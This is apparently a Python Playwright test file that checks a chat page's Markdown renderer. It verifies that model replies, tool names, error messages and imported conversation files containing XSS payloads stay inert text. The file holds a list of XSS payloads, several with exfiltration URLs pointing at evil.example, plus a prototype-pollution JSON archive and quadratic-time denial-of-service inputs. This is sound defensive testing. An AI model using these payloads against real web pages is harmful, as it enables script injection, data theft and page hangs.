"""A model's output is hostile: whatever it writes, wherever it is shown, it stays text. The page's policy never even has to refuse."""

import json
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import expect

ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<details open ontoggle=window.pwned=1>",
    "<style>*{background:url(https://evil.example/x)}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=https://evil.example/><form action=https://evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[click](javascript:window.pwned=1)",
    "[click](  jAvAsCrIpT:window.pwned=1)",
    "[click](java\tscript:window.pwned=1)",
    "[click](&#106;avascript:window.pwned=1)",
    "[click](<javascript:window.pwned=1>)",
    "[click](data:text/html,<script>parent.pwned=1</script>)",
    "[click](vbscript:msgbox) [click](file:///etc/passwd) [click](blob:https://evil.example/1)",
    "[click](//evil.example/x) [click](/v1/models) [click](\\\\evil.example\\x)",
    '[click](https://ok.example "" onmouseover=window.pwned=1 x="")',
    "[a](https://ok.example/?x=%22%20onclick=%22window.pwned=1)",
    "<javascript:window.pwned=1> <https://ok.example/onerror=1>",
    "![x](https://evil.example/steal?q=secret)",
    "![x](javascript:window.pwned=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="window.pwned=1](data:image/png;base64,AAAA)',
    "![x](/v1/models)",
    "[![x](https://evil.example/a.png)](javascript:window.pwned=1)",
    "[bank.example](https://evil.example/login)",
    r"$\href{javascript:window.pwned=1}{x}$",
    r"$\text{<img src=x onerror=window.pwned=1>}$",
    r"$$\begin{matrix} <annotation-xml encoding=\"text/html\"><script>window.pwned=1</script></annotation-xml> \end{matrix}$$",
    r"$\operatorname{</mi><script>window.pwned=1</script>}$",
    r"$\style{background:url(https://evil.example)}{x} \class{x}{y} \unicode{x}$",
    "```<img src=x onerror=window.pwned=1>\n</code></pre><script>window.pwned=1</script>\n```",
    '```"onmouseover="window.pwned=1\nx\n```',
    "```__proto__\nx\n```\n\n```constructor\ny\n```",
    "`</code><script>window.pwned=1</script>`",
    "| <script>window.pwned=1</script> | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | [x](javascript:1) |",
    "- [x] <input onfocus=window.pwned=1 autofocus>",
    "> > > <script>window.pwned=1</script>",
    "# <script>window.pwned=1</script>",
    "<a href='javascript:window.pwned=1'>x</a><math><mtext></math><img src=x onerror=window.pwned=1>",
    "\u202e<script>window.pwned=1</script>\u0000\ufffe",
]

# Everything that Markdown can become; an element outside this list would be an invention of the text.
ALLOWED = re.findall(
    r"\w+",
    """a blockquote br button code del div em h3 h4 h5 h6 hr img input li ol p path pre span strong svg table tbody td th thead tr ul
math mfrac mi mn mo mover mphantom mroot mrow mspace msqrt msub msubsup msup mtable mtd mtext mtr munder munderover""",
)

INSPECT = """(root) => {
    const found = [];
    for (const node of root.querySelectorAll("*")) {
        if (!ALLOWED.includes(node.localName)) found.push(`element ${node.localName}`);
        for (const { name, value } of node.attributes) {
            if (name.startsWith("on") || name === "style" || name === "srcdoc") found.push(`${name}=${value}`);
            if (name === "href" && !/^(https?|mailto):/.test(value)) found.push(`href=${value}`);
            if (name === "src" && !/^data:image\\/(png|jpeg|gif|webp);base64,/.test(value)) found.push(`src=${value}`);
        }
        if (node.localName === "a" && node.rel !== "noopener noreferrer nofollow") found.push("a link without rel");
    }
    if (window.pwned) found.push("a script ran");
    if ({}.polluted !== undefined) found.push("a prototype was changed");
    return found;
}""".replace("ALLOWED", json.dumps(ALLOWED))

DRAW = """async (texts) => {
    const { renderMarkdown } = await import("/web/markdown.js");
    const inspect = INSPECT;
    return texts.flatMap((text) => {
        const root = document.createElement("div");
        document.body.append(root);
        renderMarkdown(root, text);
        const found = inspect(root);
        root.remove();
        return found.map((one) => `${one} from ${JSON.stringify(text)}`);
    });
}""".replace("INSPECT", INSPECT)


def test_the_inspection_sees_an_attack(shared_page):
    found = shared_page.evaluate(
        f"""() => {{
        const root = document.createElement("div");
        const link = root.appendChild(document.createElement("a"));
        link.setAttribute("href", "javascript:1");
        link.setAttribute("data-x", "1");
        root.append(document.createElement("iframe"));
        return ({INSPECT})(root);
    }}"""
    )
    assert found == ["href=javascript:1", "a link without rel", "element iframe"]


def test_attacks_stay_text_when_they_are_drawn(shared_page):
    assert shared_page.evaluate(DRAW, ATTACKS) == []


@settings(max_examples=25, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow], deadline=None)
@given(
    texts=st.lists(
        st.lists(
            st.sampled_from(
                [*ATTACKS, *"[]()<>*_`~$\\|#-!\n\n\"'&;:/", "](", "javascript:", "data:", "```\n", "$$", "\\(", "> ", "- ", "1. ", "x", " "]
            ),
            max_size=14,
        ).map("".join),
        min_size=12,
        max_size=24,
    )
)
def test_attacks_stay_text_in_any_company(shared_page, texts):
    assert shared_page.evaluate(DRAW, texts) == []


def test_an_answer_that_attacks_is_shown_as_it_was_written(page, server, reply, say):
    server.replies["Attack"] = reply("\n\n".join(ATTACKS), reasoning="\n\n".join(ATTACKS), size=23)
    answer = say(page, "Attack")
    answer.locator(".thinking summary").click()
    expect(answer.locator(".thoughts")).to_contain_text("<script>window.pwned = 1</script>")
    expect(answer.locator(".prose").last).to_contain_text("<img src=x onerror=window.pwned=1>")
    for part in answer.locator(".prose").all():
        assert part.evaluate(INSPECT) == []
    expect(answer.get_by_text("(evil.example)").first).to_be_visible()
    page.reload()
    expect(page.locator("article.assistant .prose").last).to_contain_text("<script>window.pwned = 1</script>")
    assert page.evaluate("window.pwned") is None


def test_names_and_errors_from_the_server_are_text_too(page, server, reply, say):
    attack = "<img src=x onerror=window.pwned=1>"
    server.replies["Tool"] = reply(tool_calls=[{"id": attack, "name": attack, "arguments": attack}], size=9)
    answer = say(page, "Tool")
    expect(answer.locator(".call summary")).to_have_text(attack)
    server.failure = (400, {"error": {"message": attack}}, {})
    failed = say(page, attack)
    expect(failed.locator(".notice.error p")).to_contain_text(attack)
    expect(page.locator("article.user .bubble-text").last).to_have_text(attack)
    assert page.locator("main img").count() == 0
    assert page.evaluate("window.pwned") is None


def hostile_archive():
    node = {"id": "__proto__", "parent": "", "role": "user", "content": "<img src=x onerror=window.pwned=1>", "__proto__": {"polluted": 1}}
    pictures = ["javascript:window.pwned=1", "data:image/svg+xml,<svg onload=window.pwned=1>", "https://evil.example/x.png", 5]
    second = {
        "id": "constructor",
        "parent": "__proto__",
        "role": "assistant",
        "content": "[x](javascript:window.pwned=1)",
        "images": pictures,
    }
    conversation = {
        "id": "__proto__",
        "title": "<script>window.pwned=1</script>",
        "settings": {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "temperature": "hot", "model": "nobody"},
        "nodes": [node, second],
        "choice": [["__proto__", "constructor"], ["", "__proto__"], "x", [{}, []]],
    }
    # json.dumps writes a key "__proto__" like any other: JSON.parse makes it an own property.
    return {"format": "ernie45-conversations", "version": 1, "conversations": [conversation], "__proto__": {"polluted": 1}}


def test_a_hostile_file_brings_only_text(page):
    files = [{"name": "x.json", "mimeType": "application/json", "buffer": json.dumps(hostile_archive()).encode()}]
    page.set_input_files("#import-file", files)
    expect(page.locator("#banner")).to_contain_text("1 conversation imported.")
    expect(page.locator("article.user .bubble-text")).to_have_text("<img src=x onerror=window.pwned=1>")
    expect(page.locator(".entry-open")).to_have_text("<script>window.pwned=1</script>")
    assert page.locator("#thread img").count() == 0
    assert page.evaluate("[window.pwned, {}.polluted, [].polluted]") == [None, None, None]
    page.reload()
    expect(page.locator("article.assistant")).to_have_count(1)


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda data: data.update(format="other"), "not an export of this page"),
        (lambda data: data["conversations"][0].update(nodes=5), "needs a list of messages"),
        (lambda data: data["conversations"][0]["nodes"][0].update(parent="constructor"), "answers a message that is not there"),
        (lambda data: data["conversations"][0]["nodes"][0].update(role="system"), "role user, assistant or tool"),
        (lambda data: data["conversations"][0]["nodes"].append(data["conversations"][0]["nodes"][0]), "two messages"),
    ],
    ids=["format", "nodes", "circle", "role", "twice"],
)
def test_a_broken_file_is_refused_in_words(page, change, words):
    data = hostile_archive()
    change(data)
    page.set_input_files("#import-file", [{"name": "x.json", "mimeType": "application/json", "buffer": json.dumps(data).encode()}])
    expect(page.locator("#banner")).to_contain_text(words)
    expect(page.locator(".entry")).to_have_count(0)


HANGS = {
    "brackets": "[" * 40_000,
    "emphasis": "*a_b" * 10_000,
    "ticks": "".join("`" * (n % 300) + "x" for n in range(600)),
    "quotes": ">" * 20_000 + " x",
    "lists": "".join(" " * n + "- x\n" for n in range(400)),
    "images": "![" * 20_000 + "](" * 20_000,
    "dollars": "$a" * 20_000,
    "groups": "$" + "{" * 3000 + "}" * 3000 + "$",
    "scripts": "$" + "x^" * 1500 + "$",
    "rules": "- " * 20_000 + "x",
    "heading": "# " + "#" * 40_000 + " x",
    "table": "|" * 20_000 + "\n" + "|-" * 10_000 + "|",
    "spaces": "a" + " " * 40_000 + "\nb",
    "links": "https://a.b/" + "(" * 20_000,
    "titles": "[a](" + " " * 30_000 + '"x',
    "code": "```python\n" + '"' * 30_000 + "\n```",
    "comment": "```c\n" + "/*" * 20_000 + "\n```",
    "spaced rule": " - - -" + " " * 30_000 + "x",
    "fence info": "```" + " " * 40_000 + "`",
}


@pytest.mark.parametrize("name", HANGS)
def test_no_text_makes_the_page_hang(shared_page, name):
    program = """async (text) => {
        const { renderMarkdown } = await import("/web/markdown.js");
        const start = performance.now();
        renderMarkdown(document.createElement("div"), text);
        return performance.now() - start;
    }"""
    # Milliseconds. Honest text of this length takes about 20; what grows with the square of the length would take minutes.
    assert shared_page.evaluate(program, HANGS[name]) < 2500
